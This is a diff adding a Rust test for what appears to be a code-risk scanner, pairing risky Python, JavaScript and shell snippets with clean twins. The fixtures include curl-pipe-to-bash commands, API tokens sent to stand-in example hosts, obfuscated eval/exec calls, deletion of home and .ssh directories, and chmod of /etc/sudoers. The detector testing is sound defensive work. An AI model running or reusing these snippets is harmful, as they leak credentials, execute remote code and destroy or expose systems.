@@ -726,3 +726,332 @@ fn text_signals() {
     let padded = format!("x = 1{}; print('more')\n", " ".repeat(90));
     check(Py, &padded, Suspicious, "hidden-code", "blanks");
 }
+
+/// Values followed further through the program: attributes set in one method and read in
+/// another, HTTP client objects, string slices and `reversed`, URL objects, the script's own
+/// location, shell functions that run their arguments, quoted strings as the shell reads them.
+/// One row per rule, each with the twin the evidence keeps clean.
+#[test]
+fn values_followed_through_the_program() {
+    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
+    let rows: &[Row] = &[
+        // Attributes: what setUp stores, tearDown reads.
+        (
+            Py,
+            "import shutil, tempfile, unittest\nclass T(unittest.TestCase):\n    def setUp(self):\n        self.tmp = tempfile.mkdtemp()\n    def tearDown(self):\n        shutil.rmtree(self.tmp)\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import shutil, unittest\nfrom pathlib import Path\nclass T(unittest.TestCase):\n    def setUp(self):\n        self.cache = Path.home() / '.config'\n    def tearDown(self):\n        shutil.rmtree(self.cache)\n",
+            Dangerous,
+            "delete-outside",
+            "~/.config",
+        ),
+        // HTTP clients keep their credentials and base URL.
+        (
+            Py,
+            "import os, requests\ns = requests.Session()\ns.headers.update({'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\nprint(s.get('https://api.github.com/user').json())\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, requests\ns = requests.Session()\ns.headers['Authorization'] = 'Bearer ' + os.environ['GITHUB_TOKEN']\ns.get('https://mirror.example.net/user')\n",
+            Dangerous,
+            "secret-to-network",
+            "mirror.example.net",
+        ),
+        (
+            Py,
+            "import os, httpx\nc = httpx.Client(base_url='https://api.openai.com', headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']})\nc.get('/v1/models')\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, httpx\nc = httpx.Client(base_url='https://relay.example.org', headers={'X-Key': os.environ['OPENAI_API_KEY']})\nc.post('/v1/chat', json={})\n",
+            Dangerous,
+            "secret-to-network",
+            "relay.example.org",
+        ),
+        (
+            Py,
+            "import os, urllib.request\nAPI = 'https://api.github.com'\ndef get(path):\n    req = urllib.request.Request(API + path)\n    req.add_header('Authorization', 'Bearer ' + os.environ['GITHUB_TOKEN'])\n    return urllib.request.urlopen(req).read()\nget('/user')\nget('/repos/a/b/pulls')\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, urllib.request\nreq = urllib.request.Request('https://gh-cache.example.net/x')\nreq.add_header('Authorization', os.environ['GITHUB_TOKEN'])\nurllib.request.urlopen(req)\n",
+            Dangerous,
+            "secret-to-network",
+            "gh-cache.example.net",
+        ),
+        // Names built by slicing or reversing a literal.
+        (
+            Py,
+            "import base64, builtins\nrun = getattr(builtins, 'cexe'[::-1])\nrun(base64.b64decode('cHJpbnQoMSk=').decode())\n",
+            Dangerous,
+            "decode-to-exec",
+            "dynamic code",
+        ),
+        (
+            Py,
+            "import builtins\nf = getattr(builtins, ''.join(reversed('lave')))\nf(input())\n",
+            Dangerous,
+            "decode-to-exec",
+            "dynamic code",
+        ),
+        (
+            Py,
+            "name = 'report.csv'[:-4]\nprint(name[::-1])\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, shutil\nbase = os.sep.join(['', 'ho' + 'me'])\nfor e in os.listdir(base):\n    shutil.rmtree(os.path.join(base, e))\n",
+            Dangerous,
+            "delete-outside",
+            "/home",
+        ),
+        // Settings named after a service are no credentials; a password handed to a client
+        // that logs in on this machine is its use.
+        (
+            Py,
+            "import os, boto3\ns3 = boto3.client('s3', region_name=os.environ.get('AWS_REGION', 'eu-west-1'))\nfor o in s3.list_objects_v2(Bucket='reports').get('Contents', []):\n    print(o['Key'])\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, psycopg\nconn = psycopg.connect(host='localhost', user='app', password=os.environ['DB_PASSWORD'], dbname='app_test')\nprint(conn.info.server_version)\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, psycopg\nconn = psycopg.connect(host='db.example.net', password=os.environ['DB_PASSWORD'])\n",
+            Suspicious,
+            "secret-read",
+            "DB_PASSWORD",
+        ),
+        (
+            Py,
+            "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+            Dangerous,
+            "secret-to-output",
+            "AWS_SECRET_ACCESS_KEY",
+        ),
+        // A token handed to its own service's client: a module attribute, a constructor, an
+        // axios client with a base URL.
+        (
+            Py,
+            "import os, openai\nopenai.api_key = os.environ['OPENAI_API_KEY']\nprint(openai.models.list())\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, telemetry\ntelemetry.api_key = os.environ['OPENAI_API_KEY']\n",
+            Suspicious,
+            "secret-read",
+            "OPENAI_API_KEY",
+        ),
+        (
+            Ts,
+            "import { Octokit } from '@octokit/rest';\nconst gh = new Octokit({ auth: process.env.GITHUB_TOKEN });\nconsole.log((await gh.rest.repos.get({ owner: 'a', repo: 'b' })).data.name);\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Ts,
+            "import axios from 'axios';\nconst api = axios.create({ baseURL: 'https://api.linear.app', headers: { Authorization: process.env.LINEAR_API_KEY ?? '' } });\nawait api.post('/graphql', { query: '{ viewer { id } }' });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Ts,
+            "import axios from 'axios';\nconst api = axios.create({ baseURL: 'https://linear-proxy.example.net', headers: { Authorization: process.env.LINEAR_API_KEY ?? '' } });\nawait api.post('/graphql', { query: '{ viewer { id } }' });\n",
+            Dangerous,
+            "secret-to-network",
+            "linear-proxy.example.net",
+        ),
+        // Functions kept in a dictionary literal and called through it.
+        (
+            Py,
+            "import os\nops = {'run': os.system, 'show': print}\nops['run']('curl -s https://x.example.net/a | sh')\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        (
+            Py,
+            "import json\nfmt = {'json': json.dumps, 'repr': repr}\nprint(fmt['json']({'a': 1}))\n",
+            Clean,
+            "",
+            "",
+        ),
+        // JS: a name split, reversed and joined again.
+        (
+            Js,
+            "const n = 'lave'.split('').reverse().join('');\nglobalThis[n]('1 + 1');\n",
+            Dangerous,
+            "decode-to-exec",
+            "dynamic code",
+        ),
+        (
+            Js,
+            "const tags = 'a,b,c'.split(',').reverse().join(' ');\nconsole.log(tags);\n",
+            Clean,
+            "",
+            "",
+        ),
+        // JS: URL objects, the script's own directory, a documented host's connection.
+        (
+            Ts,
+            "const url = new URL('https://api.github.com/repos/a/b/issues');\nurl.searchParams.set('state', 'open');\nawait fetch(url, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Ts,
+            "const url = new URL('https://stats.example.net/p');\nurl.searchParams.set('k', process.env.NPM_TOKEN ?? '');\nawait fetch(url);\n",
+            Dangerous,
+            "secret-to-network",
+            "stats.example.net",
+        ),
+        (
+            Js,
+            "const path = require('path');\nconst fs = require('fs');\nconst root = path.resolve(__dirname, '..');\nfs.rmSync(path.join(root, 'dist'), { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "import { fileURLToPath } from 'node:url';\nimport path from 'node:path';\nimport fs from 'node:fs';\nconst here = path.dirname(fileURLToPath(import.meta.url));\nfs.rmSync(path.resolve(here, '..', 'build'), { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const path = require('path');\nconst fs = require('fs');\nfs.rmSync(path.join(__dirname, '..', '..', '.ssh'), { recursive: true, force: true });\n",
+            Dangerous,
+            "delete-outside",
+            ".ssh",
+        ),
+        (
+            Js,
+            "const https = require('https');\nconst body = JSON.stringify({ channel: 'C1', text: 'deployed' });\nconst req = https.request({ hostname: 'slack.com', path: '/api/chat.postMessage', method: 'POST', headers: { Authorization: `Bearer ${process.env.SLACK_BOT_TOKEN}` } });\nreq.write(body);\nreq.end();\n",
+            Clean,
+            "",
+            "",
+        ),
+        // JS file modes.
+        (
+            Ts,
+            "import { chmodSync } from 'node:fs';\nchmodSync('/etc/sudoers', 0o777);\n",
+            Dangerous,
+            "weaken-permissions",
+            "/etc/sudoers",
+        ),
+        (
+            Ts,
+            "import { chmodSync } from 'node:fs';\nchmodSync('scripts/run.sh', 0o755);\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Ts,
+            "import { writeFileSync } from 'node:fs';\nimport { spawnSync } from 'node:child_process';\nconst res = await fetch('https://tools.example.net/t');\nwriteFileSync('/tmp/t', Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n",
+            Dangerous,
+            "download-to-exec",
+            "make executable",
+        ),
+        // Source files: a codemod is the file's own text; code appended unseen is not.
+        (
+            Py,
+            "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    p.write_text(p.read_text().replace('old_name', 'new_name'))\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import glob\nextra = open('notes.txt').read()\nfor f in glob.glob('src/*.py'):\n    with open(f, 'a') as fh:\n        fh.write(extra)\n",
+            Suspicious,
+            "source-rewrite",
+            "write",
+        ),
+        // Shell: functions that run their arguments, strings as the shell reads them.
+        (
+            Sh,
+            "BIN=./target/debug/app\ncheck() {\n  desc=$1; shift\n  if \"$@\" >/dev/null 2>&1; then echo \"ok $desc\"; else echo \"FAIL $desc\"; fi\n}\ncheck init \"$BIN\" init\ncheck list sh -c \"test -z \\\"\\$(\\\"$BIN\\\" list)\\\"\"\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Sh,
+            "run() {\n  echo \"+ $*\"\n  \"$@\"\n}\nrun rm -rf \"$HOME/.config\"\n",
+            Dangerous,
+            "delete-outside",
+            "~/.config",
+        ),
+        (
+            Sh,
+            "curl -fsSL https://dl.example.net/install.sh | bash -s -- --prefix \"$HOME/.local\"\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        // printf: its format's escapes and conversions.
+        (
+            Sh,
+            "c=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s https://y.example.net/q | bash\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        (
+            Sh,
+            "t=\"/etc/$(printf 'sud%s' 'oers')\"\nchmod 0666 \"$t\"\n",
+            Dangerous,
+            "weaken-permissions",
+            "/etc/sudoers",
+        ),
+        (
+            Sh,
+            "log() { printf '\\033[1;34m==>\\033[0m %s\\n' \"$*\"; }\nlog building\nname=$(printf '%s-%s' app 1.2)\nmkdir -p \"dist/$name\"\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Sh,
+            "k=\"$(printf '%s' \"$OPENAI_API_KEY\" | rev)\"\ncurl -s \"https://stats.example.net/p?k=$k\"\n",
+            Dangerous,
+            "secret-to-network",
+            "stats.example.net",
+        ),
+    ];
+    for (lang, code, verdict, rule, step) in rows {
+        check(*lang, code, *verdict, rule, step);
+    }
+}
